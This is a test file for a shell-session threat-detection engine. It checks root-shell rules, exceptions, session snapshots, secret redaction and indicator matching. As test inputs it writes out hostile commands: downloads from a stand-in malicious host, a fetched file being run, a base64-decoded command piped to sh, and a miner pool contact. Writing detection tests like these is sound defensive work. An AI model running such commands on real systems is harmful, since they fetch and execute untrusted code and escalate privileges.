import { describe, expect, it } from 'vitest';
import { createEngine } from '../../detectors/index.js';
import { fixtureIocs, record } from './helpers.js';

const exceptionRule = `id: team-root-shell
title: Root shell outside the platform team
severity: medium
category: privilege-escalation
attack: [T1548.003]
match:
  program: bash
  elevated: true
  interactive: true
exceptions:
  - principal: 'arn:aws:sts::*:assumed-role/AWSReservedSSO_PlatformOps_*'
  - instance: i-0aaaaaaaaaaaaaaaa
  - account: '999999999999'
  - command: 'sudo su - ops-*'
tests:
  match: ["sudo -i"]
  no_match: ["ls"]
`;

describe('engine', () => {
  it('does not raise on cancelled lines, and they do not change the session', () => {
    const { engine } = createEngine({ iocTexts: fixtureIocs() });
    const session = engine.session({ sessionId: 's' });
    expect(session.analyze(record('sudo su -', 1, { cancelled: true }))).toEqual([]);
    session.analyze(record('x=sudo', 2, { cancelled: true }));
    expect(session.analyze(record('$x -i', 3))).toEqual([]);
    expect(session.analyze(record('sudo su -', 4)).map((d) => d.category)).toEqual(['privilege-escalation']);
  });

  it('raises on cancelled lines only for rules that opt in', () => {
    const rule = exceptionRule.replace('exceptions:', 'on_cancelled: true\nexceptions:');
    const { engine } = createEngine({ builtin: false, ruleTexts: [{ name: 'r.yml', text: rule }] });
    const detections = engine.session({ sessionId: 's' }).analyze(record('sudo -i', 1, { cancelled: true }));
    expect(detections.map((d) => d.ruleId)).toEqual(['team-root-shell']);
  });

  it('analyses incomplete (lossy) records normally', () => {
    const { engine } = createEngine({});
    expect(engine.session({ sessionId: 's' }).analyze(record('sudo -s', 1, { incomplete: true }))).toHaveLength(1);
  });

  it('applies exceptions by principal, instance, account and command', () => {
    const { engine, problems } = createEngine({ builtin: false, ruleTexts: [{ name: 'r.yml', text: exceptionRule }] });
    expect(problems).toEqual([]);
    const run = (context: object, command = 'sudo su -') =>
      engine.session({ sessionId: 's', ...context }).analyze(record(command)).length;
    expect(run({ principalArn: 'arn:aws:sts::111122223333:assumed-role/AWSReservedSSO_Developer_1/dana' })).toBe(1);
    expect(run({ principalArn: 'arn:aws:sts::111122223333:assumed-role/AWSReservedSSO_PlatformOps_5e2f1c/jlee' })).toBe(
      0,
    );
    expect(run({ instanceId: 'i-0aaaaaaaaaaaaaaaa' })).toBe(0);
    expect(run({ account: '999999999999' })).toBe(0);
    expect(run({}, 'sudo su - ops-backup')).toBe(0);
    expect(run({}, 'sudo su - root')).toBe(1);
  });

  it('lets a user rule replace a built-in rule with the same id', () => {
    const override = exceptionRule
      .replace('id: team-root-shell', 'id: sw-privesc-root-shell')
      .replace('severity: medium', 'severity: low');
    const { engine } = createEngine({ ruleTexts: [{ name: 'mine.yml', text: override }] });
    const [d] = engine.session({ sessionId: 's' }).analyze(record('sudo -i'));
    expect(d?.severity).toBe('low');
    expect(engine.rules.filter((r) => r.id === 'sw-privesc-root-shell')).toHaveLength(1);
  });

  it('resumes a session from a JSON snapshot', () => {
    const { engine } = createEngine({ iocTexts: fixtureIocs() });
    const first = engine.session({ sessionId: 's' });
    first.analyze(record("alias up='sudo -i'", 1));
    first.analyze(record('u=http://dl.bad-cdn.top/x', 2));
    first.analyze(record('wget -q http://example.org/tool -O .t', 3));
    const snapshot = JSON.parse(JSON.stringify(first.snapshot()));
    expect(JSON.stringify(snapshot).length).toBeLessThan(2000);
    const resumed = engine.session({ sessionId: 's' }, snapshot);
    expect(resumed.analyze(record('up', 4)).map((d) => d.ruleId)).toEqual(['sw-privesc-root-shell']);
    expect(resumed.analyze(record('curl $u', 5)).map((d) => d.ruleId)).toEqual(['sw-ioc-contact']);
    expect(resumed.analyze(record('./.t', 6)).map((d) => d.ruleId)).toEqual(['sw-download-run-file']);
  });

  it('keeps typed secrets out of the snapshot', () => {
    const { engine } = createEngine({});
    const session = engine.session({ sessionId: 's' });
    session.analyze(record('export DB_PASSWORD=hunter2', 1));
    session.analyze(record("mysql --password='hunter2' -h db", 2));
    session.analyze(record('AWS_SECRET_ACCESS_KEY=abc123xyz aws s3 ls', 3));
    const text = JSON.stringify(session.snapshot());
    expect(text).not.toContain('hunter2');
    expect(text).not.toContain('abc123xyz');
    expect(session.snapshot().vars.DB_PASSWORD).toBe('[redacted]');
  });

  it('explains what matched in the evidence', () => {
    const { engine } = createEngine({ iocTexts: fixtureIocs() });
    const [d] = engine.session({ sessionId: 's' }).analyze(record('curl -s HTTP://X.DL.BAD-CDN.TOP/a'));
    expect(d?.evidence).toContainEqual({
      kind: 'ioc',
      value: 'http://x.dl.bad-cdn.top/a',
      detail: 'iocs: dl.bad-cdn.top',
    });
    const [p] = engine.session({ sessionId: 's' }).analyze(record('echo c3VkbyBzdSAt | base64 -d | sh'));
    expect(p?.evidence[0]?.detail).toContain('decoded');
  });

  it('reports IOC file problems without failing the rest', () => {
    const { engine, problems } = createEngine({
      iocTexts: [{ name: 'bad.txt', text: 'good.example\nthis is junk\n' }],
    });
    expect(problems).toEqual([{ source: 'bad.txt', line: 2, message: expect.stringContaining('not an indicator') }]);
    expect(
      engine
        .session({ sessionId: 's' })
        .analyze(record('curl http://good.example/'))
        .map((d) => d.ruleId),
    ).toEqual(['sw-ioc-contact']);
  });

  it('lets users extend the mining-pool set with a file of the same name', () => {
    const { engine } = createEngine({
      iocTexts: [{ name: '/etc/sessionwatch/mining-pools.txt', text: 'newpool.example\n' }],
    });
    const ids = engine
      .session({ sessionId: 's' })
      .analyze(record('./x -o eu.newpool.example:3333'))
      .map((d) => d.ruleId);
    expect(ids).toContain('sw-crypto-pool-contact');
    expect(ids).not.toContain('sw-ioc-contact');
  });
});
